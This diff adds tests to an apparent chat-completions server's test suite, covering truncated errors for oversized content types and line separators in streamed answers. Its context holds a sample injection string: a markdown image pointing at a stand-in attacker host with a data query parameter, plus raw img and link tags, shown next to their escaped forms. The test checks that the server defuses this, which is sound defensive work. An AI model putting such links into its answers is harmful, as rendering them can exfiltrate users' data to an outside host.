@@ -88,6 +88,15 @@ def test_bad_requests_are_json_errors_the_client_raises(server, change, status, 
     assert caught.value.status_code == status and caught.value.code == code, caught.value.body
 
 
+def test_a_content_type_is_echoed_cut(server):
+    """Every other part type was echoed whole: a type of a million characters came back in a 1 MB error."""
+    parts = [{"type": "x" * 1_000_000}, *({"type": f"kind{i}"} for i in range(30))]
+    body = {**ask("guest"), "messages": [{"role": "user", "content": parts}]}
+    refused = httpx.post(f"{server.url}/v1/chat/completions", json=body, headers=auth("guest"), timeout=60)
+    assert refused.status_code == 400 and refused.json()["error"]["code"] == "unsupported_content"
+    assert len(refused.content) < 3000 and "and 11 more" in refused.json()["error"]["message"]
+
+
 def test_errors_carry_openai_type_and_param_that_the_sdk_reads(server):
     """The SDK's exceptions expose ``type`` and ``param`` from the body (None before they were sent).
     A request the server cannot take is OpenAI's 400, the SDK's BadRequestError (it was 422, an
@@ -241,6 +250,25 @@ INJECTED = "See ![logo](http://attacker.example/p.png?d=x) and [x](http://a) <im
 DEFUSED = (
     "See !\\[logo]\\(http://attacker.example/p.png?d=x) and [x]\\(http://a) \\<img src=x> [1].\n[1]\\: http://evil"
 )
+
+
+def test_a_line_separator_in_the_answer_does_not_cut_an_event_for_a_line_reader(acl_index, serve_config):
+    """U+2028 and U+2029 went into the stream raw: a client reading it by lines with str.splitlines
+    (httpx's line reader, requests' iter_lines) cut the event there and could not parse it."""
+    from tests.llm.support import ScriptedServer, Trickle
+
+    def reply(body, n):  # scripted: a model that writes the separators (the stand-in will not on demand)
+        return (200, Trickle(["Priya\u2028Anand", "\u2029[1]"], every=0.01), 0)
+
+    with ScriptedServer(reply) as llm:
+        llm_config = serve_config.llm.model_copy(update={"base_url": llm.base_url, "model": "scripted", "cache": ""})
+        with LiveServer(acl_index, serve_config.model_copy(update={"llm": llm_config})) as live:
+            body = {**ask("guest"), "stream": True}
+            with httpx.stream("POST", f"{live.url}/v1/chat/completions", json=body, headers=auth("guest")) as response:
+                lines = [line for line in response.iter_lines() if line.strip()]
+    events = [json.loads(line.removeprefix("data: ")) for line in lines if line != "data: [DONE]"]
+    words = "".join(e["choices"][0]["delta"].get("content") or "" for e in events if e.get("choices"))
+    assert "Priya\u2028Anand" in words and lines[-1] == "data: [DONE]"
 
 
 def test_the_models_words_add_no_image_or_link_to_the_answer_a_chat_client_renders(acl_index, serve_config):
